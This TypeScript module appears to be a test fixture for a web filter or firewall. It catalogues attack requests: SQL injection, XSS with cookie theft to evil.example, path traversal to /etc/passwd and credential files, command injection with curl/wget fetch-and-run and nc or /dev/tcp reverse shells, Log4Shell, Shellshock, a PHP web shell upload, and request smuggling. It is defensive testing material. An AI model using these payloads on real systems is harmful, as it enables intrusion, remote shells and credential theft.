/** Requests that nobody sends by accident: what scanners and people with bad intentions try first, where they try it. */
import { request, type RawRequest } from './requests.ts';

type Kind = 'SQL injection' | 'cross-site scripting' | 'file inclusion' | 'command injection' | 'scanner' | 'protocol';

export interface Attack {
  readonly kind: Kind;
  readonly what: string;
  readonly request: RawRequest;
}

const SQL = [
  "' OR '1'='1",
  "' OR 1=1-- -",
  "admin'--",
  "1' UNION SELECT username, password FROM users-- -",
  '1 UNION ALL SELECT NULL,NULL,CONCAT(0x7e,version(),0x7e)-- -',
  '1; DROP TABLE users-- -',
  "1' AND SLEEP(5)-- -",
  "1' AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT(user(),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)-- -",
  "1'; WAITFOR DELAY '0:0:5'--",
  "1' AND pg_sleep(5)-- -",
  "1' AND extractvalue(1,concat(0x7e,(select database())))-- -",
  "1' PROCEDURE ANALYSE(EXTRACTVALUE(1,1),1)-- -",
  '1 AND BENCHMARK(5000000,MD5(1))',
  "x' AND 1=(SELECT COUNT(*) FROM tablenames); --",
  "1' INTO OUTFILE '/var/www/html/a.php'-- -",
  "1'; EXEC xp_cmdshell('whoami')--",
];

const XSS = [
  '<script>alert(1)</script>',
  '<ScRiPt >alert(document.cookie)</sCrIpT>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg/onload=fetch(`//evil.example/`+document.cookie)>',
  '<body onload=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '"><script src=//evil.example/x.js></script>',
  "'-alert(1)-'<script>",
  '<a href="javascript:alert(1)">x</a>',
  '<math><mtext><style><img src onerror=alert(1)></style></mtext></math>',
  '<details open ontoggle=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
];

const FILES = [
  '../../../../etc/passwd',
  '....//....//....//etc/passwd',
  '/etc/shadow',
  '..\\..\\..\\windows\\win.ini',
  '/proc/self/environ',
  'php://filter/convert.base64-encode/resource=index.php',
  'file:///etc/passwd',
  '../../wp-config.php',
  '/var/log/apache2/access.log/../../../../etc/passwd',
  'http://169.254.169.254/latest/meta-data/?',
];

const COMMANDS = [
  ';cat /etc/passwd',
  '| cat /etc/passwd',
  '$(curl http://evil.example/x.sh)',
  '`wget http://evil.example/x.sh -O- | sh`',
  '; nc -e /bin/sh 10.0.0.1 4444',
  '&& ping -c 10 127.0.0.1',
  ';bash -i >& /dev/tcp/10.0.0.1/4444 0>&1',
  '() { :;}; /bin/bash -c "cat /etc/passwd"',
  '<?php system($_GET["c"]); ?>',
  '${jndi:ldap://evil.example/a}',
  '${${lower:j}ndi:${lower:l}dap://evil.example/a}',
  'php -r "phpinfo();"; python3 -c "import os"',
  "eval(base64_decode('cGhwaW5mbygp'))",
  "__import__('os').system('id')",
  'powershell.exe -NoP -EncodedCommand ZQBjAGgAbwA=',
  "require('child_process').exec('id')",
];

/** The ways for a value into an app; all of them are looked at. */
const WAYS: readonly [string, (value: string) => RawRequest][] = [
  ['in the query', (value) => request('GET', `/search?q=${encodeURIComponent(value)}`)],
  ['in a form', (value) => request('POST', '/contact', { form: { message: value } })],
  ['in JSON', (value) => request('POST', '/api/things', { json: { filter: { name: value } } })],
  ['in a part of a form', (value) => request('POST', '/upload', { parts: [{ name: 'title', content: value }] })],
];

const SCANNERS = [
  'sqlmap/1.8#stable (https://sqlmap.org)',
  'Nikto/2.5.0',
  'Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)',
  'masscan/1.3',
  'WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)',
  'Nuclei - Open-source project (github.com/projectdiscovery/nuclei)',
  'gobuster/3.6',
  'Fuzz Faster U Fool v2.1.0',
  'feroxbuster/2.10.1',
  'OpenVAS',
  'w3af.org',
  'zgrab/0.x',
  'dirbuster',
  'Arachni/v1.5.1',
];

/** Files that a server should never hand out, and whose names scanners know by heart. */
const TREASURES = [
  '/.git/config',
  '/.git/HEAD',
  '/.env',
  '/.aws/credentials',
  '/.ssh/id_rsa',
  '/.htpasswd',
  '/.svn/entries',
  '/wp-config.php.bak',
  '/backup.sql',
  '/db.bak',
  '/.bash_history',
  '/.docker/config.json',
  '/.kube/config',
  '/web.config',
  '/composer.lock',
  '/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd',
  '/static/..%2f..%2f..%2f..%2fetc/passwd',
  '/images/%2e%2e/%2e%2e/%2e%2e/etc/passwd',
  '/..%c0%af..%c0%af..%c0%afetc/passwd',
];

const PROTOCOL: readonly [string, RawRequest][] = [
  ['a method of nobody', request('DEBUG', '/')],
  ['TRACE', request('TRACE', '/')],
  ['TRACK', request('TRACK', '/')],
  ['no Host', 'GET / HTTP/1.1\r\nUser-Agent: curl/8\r\nAccept: */*\r\nConnection: close\r\n\r\n'],
  [
    'two Hosts',
    'GET / HTTP/1.1\r\nHost: example.com\r\nHost: evil.example\r\nUser-Agent: a\r\nAccept: */*\r\nConnection: close\r\n\r\n',
  ],
  ['a length that is no number', request('POST', '/', { headers: { 'Content-Length': 'abc' }, body: 'a=b' })],
  [
    'a length and chunks',
    request('POST', '/', {
      headers: { 'Content-Length': '6', 'Transfer-Encoding': 'chunked', 'Content-Type': 'text/plain' },
      body: '0\r\n\r\nG',
    }),
  ],
  ['a line break in a parameter', request('GET', '/?next=%0d%0aSet-Cookie:%20a=b')],
  ['an answer split in two', request('GET', '/?u=%0d%0aHTTP/1.1%20200%20OK%0d%0aContent-Type:%20text/html')],
  ['a request smuggled in a parameter', request('GET', '/?a=%0d%0aGET%20/admin%20HTTP/1.1%0d%0aHost:%20x')],
  ['a null byte', request('GET', '/?file=a%00.php')],
  ['a null byte in a form', request('POST', '/', { form: { file: 'a\0.php' } })],
  ['XML that is none', request('POST', '/api', { headers: { 'Content-Type': 'application/xml' }, body: '<a><b></a>' })],
  ['JSON that is none', request('POST', '/api', { headers: { 'Content-Type': 'application/json' }, body: '{"a":' })],
  [
    'a kind of body nobody sends',
    request('POST', '/api', { headers: { 'Content-Type': 'application/x-java-serialized-object' }, body: 'aced' }),
  ],
  [
    'a charset nobody uses',
    request('POST', '/', {
      headers: { 'Content-Type': 'application/x-www-form-urlencoded; charset=ibm037' },
      body: 'a=b',
    }),
  ],
  [
    'the method overridden',
    request('POST', '/admin', { headers: { 'X-HTTP-Method-Override': 'DELETE' }, form: { a: 'b' } }),
  ],
  ['a proxy of the sender’s own', request('GET', '/', { headers: { Proxy: 'http://evil.example' } })],
  ['a middleware skipped', request('GET', '/dashboard', { headers: { 'X-Middleware-Subrequest': 'middleware' } })],
  [
    'a body hidden by its coding',
    request('POST', '/', { headers: { 'Content-Encoding': 'gzip', 'Content-Type': 'text/plain' }, body: 'x' }),
  ],
  [
    'parts of two boundaries',
    request('POST', '/upload', {
      headers: { 'Content-Type': 'multipart/form-data; boundary=a; boundary=b' },
      body: '--a\r\nContent-Disposition: form-data; name="x"\r\n\r\n1\r\n--a--\r\n',
    }),
  ],
  [
    'a program as an upload',
    request('POST', '/upload', {
      parts: [{ name: 'file', filename: 'shell.php', content: '<?php eval($_POST["x"]);' }],
    }),
  ],
  [
    'a session of the attacker’s choice',
    request(
      'GET',
      '/?PHPSESSID=deadbeef&x=<script>document.cookie="a=b"</script>'.replace(/[<>"]/g, (c) => encodeURIComponent(c)),
    ),
  ],
  ['a header of Log4Shell', request('GET', '/', { headers: { 'X-Api-Version': '${jndi:ldap://evil.example/a}' } })],
  ['a browser of Log4Shell', request('GET', '/', { headers: { 'User-Agent': '${jndi:ldap://evil.example/a}' } })],
  [
    'Shellshock in the browser’s name',
    request('GET', '/cgi-bin/status', { headers: { 'User-Agent': '() { :;}; /bin/bash -c "id"' } }),
  ],
  ['SQL in a cookie', request('GET', '/', { headers: { Cookie: "session=1' UNION SELECT password FROM users-- -" } })],
  ['a script in a cookie', request('GET', '/', { headers: { Cookie: 'theme=<script>alert(1)</script>' } })],
  [
    'a script where one came from',
    request('GET', '/', { headers: { Referer: 'https://example.com/?q=<script>alert(1)</script>' } }),
  ],
  [
    'Spring4Shell',
    request('POST', '/', { form: { 'class.module.classLoader.resources.context.parent.pipeline.first.pattern': 'x' } }),
  ],
  [
    'Struts',
    request('GET', '/', {
      headers: { 'Content-Type': "%{(#_='multipart/form-data').(#cmd='id').(new java.lang.ProcessBuilder(#cmd))}" },
    }),
  ],
  [
    'a prototype polluted',
    request('POST', '/api', { json: { constructor: { prototype: { admin: '__proto__[admin]' } } } }),
  ],
];

function through(kind: Kind, values: readonly string[]): readonly Attack[] {
  return values.flatMap((value) =>
    WAYS.map(([way, make]): Attack => ({ kind, what: `${value} ${way}`, request: make(value) })),
  );
}

export const attacks: readonly Attack[] = [
  ...through('SQL injection', SQL),
  ...through('cross-site scripting', XSS),
  ...through('file inclusion', FILES),
  ...through('command injection', COMMANDS),
  ...TREASURES.map((path): Attack => ({ kind: 'file inclusion', what: path, request: request('GET', path) })),
  ...SCANNERS.map((agent): Attack => ({
    kind: 'scanner',
    what: agent,
    request: request('GET', '/', { headers: { 'User-Agent': agent } }),
  })),
  ...PROTOCOL.map(([what, raw]): Attack => ({ kind: 'protocol', what, request: raw })),
];
